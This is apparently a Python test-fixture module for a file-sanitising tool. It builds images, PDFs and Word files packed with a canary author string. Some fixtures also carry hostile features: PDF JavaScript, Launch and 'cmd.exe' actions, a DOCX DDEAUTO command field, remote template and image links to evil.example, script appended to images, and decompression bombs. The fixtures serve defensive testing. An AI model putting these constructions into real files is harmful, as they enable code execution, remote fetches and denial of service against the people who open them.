"""Files as people bring them, with a canary wherever a program writes down who, where and with what; and bad ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import ExifTags, Image, PngImagePlugin

CANARY = "Qzvanarykxpolu55583509"
XMP = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><dc:creator>{CANARY}</dc:creator></rdf:RDF></x:xmpmeta>'.encode()
SCRIPT = f"<html><script>alert('{CANARY}')</script>".encode()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def drawn(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size, (200, 180, 40))
    image.paste((20, 40, 160), (0, 0, size[0] // 2, size[1] // 2))  # the corner says which way is up
    return image


def exif() -> Image.Exif:
    told = Image.Exif()
    for tag in (ExifTags.Base.Artist, ExifTags.Base.Make, ExifTags.Base.ImageDescription, ExifTags.Base.Software):
        told[tag] = CANARY
    told[ExifTags.Base.Orientation] = 6  # taken with the telephone turned
    told.get_ifd(ExifTags.IFD.GPSInfo).update({1: "N", 2: (41.0, 25.0, 43.0), 3: "E", 29: CANARY})
    return told


def photo(size: tuple[int, int] = (64, 48)) -> bytes:
    """With a place, an author, a comment, a thumbnail's worth of XMP; and a web page after its end."""
    out = io.BytesIO()
    drawn(size).save(out, "JPEG", exif=exif(), comment=CANARY.encode(), xmp=XMP, icc_profile=CANARY.encode() * 9)
    return out.getvalue() + SCRIPT


def screenshot() -> bytes:
    told, out = PngImagePlugin.PngInfo(), io.BytesIO()
    told.add_text("Author", CANARY)
    told.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=True)
    drawn().save(out, "PNG", pnginfo=told, exif=exif())
    return out.getvalue() + SCRIPT


def paper() -> bytes:
    """A PDF that would run a script, start a program, send a form, open a page; with a file inside, and a photo."""
    out, photo_ = io.BytesIO(), photo()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(300, 300))
        picture = pikepdf.Stream(pdf, photo_)
        for key, value in (
            ("/Type", pikepdf.Name.XObject),
            ("/Subtype", pikepdf.Name.Image),
            ("/Width", 64),
            ("/Height", 48),
            ("/BitsPerComponent", 8),
            ("/ColorSpace", pikepdf.Name.DeviceRGB),
            ("/Filter", pikepdf.Name.DCTDecode),
        ):
            picture[key] = value
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=picture))
        page.Contents = pikepdf.Stream(pdf, b"q 200 0 0 150 10 10 cm /P Do Q")
        page.PieceInfo = pikepdf.Dictionary(Maker=pikepdf.String(CANARY))
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert('{CANARY}')"))
        start = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(f"cmd.exe {CANARY}"))
        leave = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"http://evil.example/{CANARY}"))
        page.AA = pikepdf.Dictionary(O=script)
        page.Annots = pikepdf.Array([_mark(name, act) for name, act in (("Link", start), ("Link", leave))])
        page.Annots.append(_mark("Text", script))
        pdf.Root.OpenAction = script
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
        pdf.attachments["note.txt"] = pikepdf.AttachedFileSpec(pdf, CANARY.encode(), filename=f"{CANARY}.txt")
        pdf.docinfo["/Author"] = CANARY
        with pdf.open_metadata() as told:
            told["dc:creator"] = [CANARY]
        pdf.save(out, compress_streams=False)
    return out.getvalue() + SCRIPT


def _mark(kind: str, act: pikepdf.Dictionary) -> pikepdf.Dictionary:
    told = {"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(f"/{kind}"), "/Rect": pikepdf.Array([0, 0, 9, 9])}
    return pikepdf.Dictionary({**told, "/A": act, "/T": pikepdf.String(CANARY), "/Contents": pikepdf.String("word")})


def document(*, said: str = "Күбөнүн сөзү", more: Mapping[str, bytes] = {}) -> bytes:
    """A letter with its author in seven places, a photo in it, and a template and a command from outside."""
    body = (
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p><w:r><w:t>{said}</w:t></w:r>'
        f'<w:ins w:author="{CANARY}"><w:r><w:t>кошумча</w:t></w:r></w:ins>'
        f'<w:r><w:instrText xml:space="preserve"> DDEAUTO cmd "/c {CANARY}" </w:instrText></w:r>'
        f"<w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example\"'/></w:p></w:body></w:document>"
    )
    parts = {
        "[Content_Types].xml": (
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/docProps/core.xml" ContentType="a"/>'
            b'<Override PartName="/word/document.xml" ContentType="b"/></Types>'
        ),
        "_rels/.rels": _relations(f"{R}/officeDocument|word/document.xml", f"{R}/thumbnail|docProps/thumbnail.jpeg"),
        "word/_rels/document.xml.rels": _relations(
            f"{R}/image|media/image1.jpeg", f"{R}/attachedTemplate|http://evil.example/{CANARY}.dotm|External"
        ),
        "word/document.xml": body.encode(),
        "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:author="{CANARY}"/></w:comments>'.encode(),
        "word/people.xml": CANARY.encode(),
        "word/media/image1.jpeg": photo(),
        "docProps/core.xml": f"<cp><dc:creator>{CANARY}</dc:creator></cp>".encode(),
        "docProps/thumbnail.jpeg": photo(),
        "customXml/item1.xml": CANARY.encode(),
    }
    return packed({**parts, **more})


def _relations(*told: str) -> bytes:
    lines = []
    for number, one in enumerate(told):
        kind, target, *mode = one.split("|")
        outside = ' TargetMode="External"' if mode else ""
        lines.append(f'<Relationship Id="r{number}" Type="{kind}" Target="{target}"{outside}/>')
    return f'<?xml version="1.0"?><Relationships>{"".join(lines)}</Relationships>'.encode()


def packed(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def huge(wide: int, high: int) -> bytes:
    """A PNG of a few kilobytes that says it is this large."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def swollen_pdf() -> bytes:
    """A page whose pattern of marks unpacks to 300 MB."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        inner = zlib.compress(bytes(300_000_000), 9)
        stream = pikepdf.Stream(pdf, zlib.compress(inner, 9))
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        page.Contents = stream
        pdf.save(out, compress_streams=False)
    return out.getvalue()


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()
